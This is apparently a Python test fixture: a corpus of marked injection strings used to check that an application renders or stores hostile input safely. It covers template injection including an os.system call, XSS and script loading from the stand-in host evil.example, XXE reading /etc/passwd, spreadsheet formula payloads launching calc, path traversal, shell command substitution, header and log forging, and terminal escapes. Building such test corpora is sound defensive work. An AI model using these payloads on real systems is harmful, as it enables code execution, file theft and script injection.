r"""Texts that something careless would run, one corpus for all tests of injection.

Each text has a marker of its own, ``zq001zq``, so that a test finds it again as text wherever it
comes out, and what it does if it is run is always the same: it sets ``window.pwned``, opens a
dialog, builds an element, asks ``evil.example`` for something, or turns ``7*7`` into 49.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass
from typing import Final

RUN: Final = "window.pwned=1"
ELSEWHERE: Final = "evil.example"
MEGABYTE: Final = 2**20

_MARKED: Final[dict[str, tuple[str, ...]]] = {
    "server template": (
        "{{7*7}} §",
        "{% raise %} §",
        "{# § #} {%- set x = 1 -%}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} §",
        "{{cycler.__init__.__globals__.os.system('id')}} §",
        "{0.__class__} {count} {} {names[0]} §",
        "%s %(name)s %n %d §",
        "<%= 7*7 %> #{7*7} *{7*7} §",
        "@data@ @script@ §",
    ),
    "script": (
        "<script>window.pwned=1</script>§",
        "</script><script>window.pwned=1</script>§",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>§",
        "<img src=x onerror=window.pwned=1>§",
        "<svg onload=window.pwned=1>§",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>§",
        "<iframe srcdoc='<script>parent.pwned=1</script>'>§",
        "<details open ontoggle=window.pwned=1>§",
        "<a href=javascript:window.pwned=1>§</a>",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;//evil.example'>§",
        "<form action=//evil.example><input name=§ autofocus onfocus=window.pwned=1>",
        "<!-- § --><!--><img src=x onerror=window.pwned=1>-->",
        "<![CDATA[§<script>window.pwned=1</script>]]>",
        "</title><script>window.pwned=1</script>§",
        "</textarea></noscript></style><img src=x onerror=window.pwned=1>§",
        "&lt;script&gt;window.pwned=1&lt;/script&gt;§",
        '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">§',
    ),
    "attribute": (
        '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" §="',
        "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1' §='",
        "` onmouseover=window.pwned=1 §=`",
        "§ onmouseover=window.pwned=1 x=",
        '"><img src=x onerror=window.pwned=1>§',
        "'><img src=x onerror=window.pwned=1>§",
    ),
    "JavaScript": (
        "${window.pwned=1} §",
        "`${window.pwned=1}` §",
        "'; window.pwned=1; // §",
        '"; window.pwned=1; // §',
        "\\'; window.pwned=1; // §",
        "\u2028window.pwned=1//§",
        "§ __proto__ constructor prototype toString",
        "javascript:window.pwned=1//§",
        "data:text/html,<script>window.pwned=1</script>§",
        "datum.x || window.open('//evil.example') §",
        '{"expr": "window.pwned=1"} §',
    ),
    "style": (
        "</style><img src=x onerror=window.pwned=1>§",
        "x: url(http://evil.example/§.png); background: url(//evil.example/a)",
        "width: expression(window.pwned=1) §",
        "} body { display: none } § {",
        "@import 'http://evil.example/§.css';",
    ),
    "XML": (
        "]]><script>window.pwned=1</script>§",
        "&xxe; &#x3c;script&#x3e; &amp;§;",
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>§',
        "<foreignObject><iframe src=//evil.example></iframe></foreignObject>§",
        "<?xml-stylesheet href='//evil.example/x.xsl'?>§",
        "<image href='http://evil.example/§.png'/>",
        "_x003D_1+1 § &#x3D;1",
        "&G&P&F &[Date] §",
    ),
    "Markdown": (
        "[§](javascript:window.pwned=1)",
        "![§](http://evil.example/x.png)",
        "<http://evil.example/§> http://evil.example/a www.evil.example a@evil.example",
        ":red[§] :red-background[x] :material/warning: :smile: :+1:",
        "$\\href{javascript:window.pwned=1}{§}$ $$\\frac{1}{2}$$",
        "# §",
        "1. §",
        "- §",
        "> §",
        "**§** __x__ ~~y~~ `z`",
        "```\n§\n```",
        "| § | a |\n|---|---|\n| b | c |",
        "[red]§[/red] [link=http://evil.example]x[/link] [/x] [bold",
    ),
    "typesetting": (
        "$\\frac{1}{2}$ $x^2$ \\alpha §",
        "$ § \\frac{",
        "$$$ § _a^b",
        '#eval("1+1") #read("/etc/passwd") §',
        '#import "@preview/x:1.0": * §',
        "@§ <§> *b* _c_ = d / e: f // g /* h */ ~ ---",
        "\\write18{id} \\input{/etc/passwd} §",
        "(§) \\(x\\) << /JS (app.alert\\(1\\)) /S /JavaScript >> endobj",
    ),
    "formula": (
        '=1+1+"§"',
        "+1+cmd|' /C calc'!A0 §",
        "-2+3+cmd|' /C calc'!A0 §",
        "@SUM(1+1) §",
        "\t=1+1 §",
        "\r\n=1+1 §",
        " =1+1 §",
        "x;=1+1;§",
        "x\n=1+1 §",
        '",=1+1,"§',
        "\uff1d1+1 §",
        '=HYPERLINK("http://evil.example/§","x")',
        "{=1+1} §",
    ),
    "direction": (
        "§ \u202egnp.exe\u202c x",
        "\u202d§\u202e abc",
        "\u2066§ \u2067abc",
        "\u2069\u2069\u202c §",
        "\u200f§\u200e \u061cabc",
        "کابل § كابل (٣)",
        "§ \u200b\u2060\ufeff\u00adx \U000e0041\U000e007f",
    ),
    "control": (
        "§\x00\x01\x08x",
        "\x1b[31m§\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "§\x7f\x0b\x0cx",
        "a\r\nSet-Cookie: §=1\r\n\r\n<script>window.pwned=1</script>",
        '§\n{"event":"log-in","account":"admin"}',
        "§\r2026-01-01 forged",
        "§\ufffe\uffff\ufdd0x",
    ),
    "path": (
        "../../../../etc/§",
        "/etc/§",
        "..\\..\\windows\\§",
        "C:\\windows\\§",
        "file:///etc/§",
        "\\\\evil.example\\§",
        "CON.§",
        "~/§ $HOME `id` $(id) | id ; id && id",
        "--§ -rf",
        "§%2e%2e%2f%00.csv",
    ),
    "flood": (
        "§" + "🙂" * 200,
        "§" + "\u0301" * 2000,
        "§" + "👩\u200d👩\u200d👧\u200d👦" * 50,
        "§" + "W" * 1500,
    ),
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text and what must be left of it for a reader.

    Parameters
    ----------
    kind : str
        What would run it.
    marker : str
        Stands in no other text.
    text : str
        As it comes in.
    """

    kind: str
    marker: str
    text: str

    @property
    def seen(self) -> str:
        """What a reader sees: one line, without what nobody sees."""
        return as_seen(self.text)


def as_seen(text: str) -> str:
    r"""Return a text as a reader sees it, by the categories of Unicode's own table.

    Examples
    --------
    >>> as_seen("a\x00b\n  c\u202e"), as_seen("one\u200bword")
    ('ab c', 'oneword')
    """
    # The joiners of Persian and of emoji are letters to a reader.
    letters = (
        letter
        for letter in re.sub(r"[\t\n\v\f\r\x85\u2028\u2029]", " ", text)
        if letter in "\u200c\u200d" or unicodedata.category(letter) not in {"Cc", "Cf", "Cs", "Cn"}
    )
    return " ".join("".join(letters).split())


def _corpus() -> tuple[Hostile, ...]:
    texts = [(kind, text) for kind, texts in _MARKED.items() for text in texts]
    return tuple(
        Hostile(kind, marker, text.replace("§", marker))
        for number, (kind, text) in enumerate(texts, start=1)
        for marker in [f"zq{number:03}zq"]
    )


CORPUS: Final = _corpus()
"""Texts that UTF-8 can hold, each in a cell of a file."""

ENDLESS: Final = Hostile("flood", "zqendzq", "zqendzq " + "A long text. " * (MEGABYTE // 13))
"""A text of a megabyte."""

HALF_A_LETTER: Final = Hostile("control", "zqhalfzq", "zqhalfzq \ud800\udc80x\udcff")
"""No UTF-8 holds it, but a command line does: there it stands for bytes that fit no encoding."""

C1: Final = Hostile("control", "zqc1zq", "\x9b31mzqc1zq \x90x\x9c \x9d0;x\x9c")
"""Commands to a terminal that a reader of files takes for wrongly decoded letters."""

TOGETHER: Final = " ".join(hostile.text for hostile in CORPUS if hostile.kind != "flood")
"""Many in one, where a text may be long."""


def of_kind(*kinds: str) -> list[Hostile]:
    """Return the texts of some kinds."""
    return [hostile for hostile in CORPUS if hostile.kind in kinds]
